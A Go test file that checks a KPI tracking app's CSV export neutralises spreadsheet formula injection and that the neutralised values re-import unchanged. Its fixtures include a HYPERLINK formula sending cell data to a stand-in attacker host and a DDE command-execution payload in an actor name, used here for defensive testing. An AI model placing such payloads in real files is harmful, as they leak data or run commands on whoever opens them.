package server_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/accord-alliance/accord/internal/accord"
	"github.com/accord-alliance/accord/internal/importcsv"
	"github.com/accord-alliance/accord/internal/number"
	"github.com/accord-alliance/accord/internal/store"
)

// TestKPIExportNeutralisesFormulas: text cells of a KPI's CSV export that a
// spreadsheet would run as formulas are written as text, numbers stay
// numbers, and the import reads the export's segments back as they were.
func TestKPIExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	for _, d := range []store.Dialect{store.SQLite, store.Postgres} {
		t.Run(string(d), func(t *testing.T) {
			a := newApp(t, d)
			ctx := context.Background()
			k := a.testKPI("formula-test")
			segments := []string{`=HYPERLINK("https://evil.example/?"&A1)`, "+1+1", "-2", "@SUM(A1:A9)", "Eastgate"}
			var rows []accord.ObservationInput
			for i, seg := range segments {
				n, _ := number.ParseDecimal("1")
				d, _ := number.ParseDecimal("2")
				rows = append(rows, accord.ObservationInput{KPI: k.Key, Period: "2024-0" + string(rune('1'+i)), Segment: seg, Numerator: &n, Denominator: &d, Line: i + 2})
			}
			actor := accord.Actor{Name: "=cmd|' /C calc'!A0", Via: "test"}
			rep, err := a.db.ImportObservations(ctx, actor, accord.ImportRequest{AllianceID: k.AllianceID, Format: "csv", Filename: "f.csv", SHA256: "x", Rows: rows})
			if err != nil || len(rep.Errors) > 0 {
				t.Fatalf("import: %v %+v", err, rep.Errors)
			}
			_, body := a.get(a.login("elena.vasquez@riversidepg.example"), "/a/north-valley/kpis/formula-test/observations.csv")
			recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
			if err != nil || len(recs) != len(segments)+1 {
				t.Fatalf("export: %v\n%s", err, body)
			}
			for _, rec := range recs[1:] {
				if seg := rec[2]; seg != "Eastgate" && !strings.HasPrefix(seg, "'") {
					t.Errorf("segment cell %q is not neutralised", seg)
				}
				if rec[3] != "" || rec[4] != "1" || rec[5] != "2" {
					t.Errorf("numbers %q: want them as they are", rec[3:6])
				}
				if rec[8] != "'"+actor.Name {
					t.Errorf("submitted_by cell %q, want %q", rec[8], "'"+actor.Name)
				}
			}
			// The import reads the neutralised segments back as they were.
			var back strings.Builder
			back.WriteString("kpi,period,segment,numerator,denominator\n")
			w := csv.NewWriter(&back)
			for _, rec := range recs[1:] {
				w.Write([]string{rec[0], rec[1], rec[2], rec[4], rec[5]})
			}
			w.Flush()
			res, err := importcsv.Read(strings.NewReader(back.String()), "back.csv")
			if err != nil || len(res.Errors) > 0 {
				t.Fatalf("re-import: %v %+v", err, res.Errors)
			}
			for i, r := range res.Rows {
				if r.Segment != segments[i] {
					t.Errorf("re-imported segment %q, want %q", r.Segment, segments[i])
				}
			}
		})
	}
}
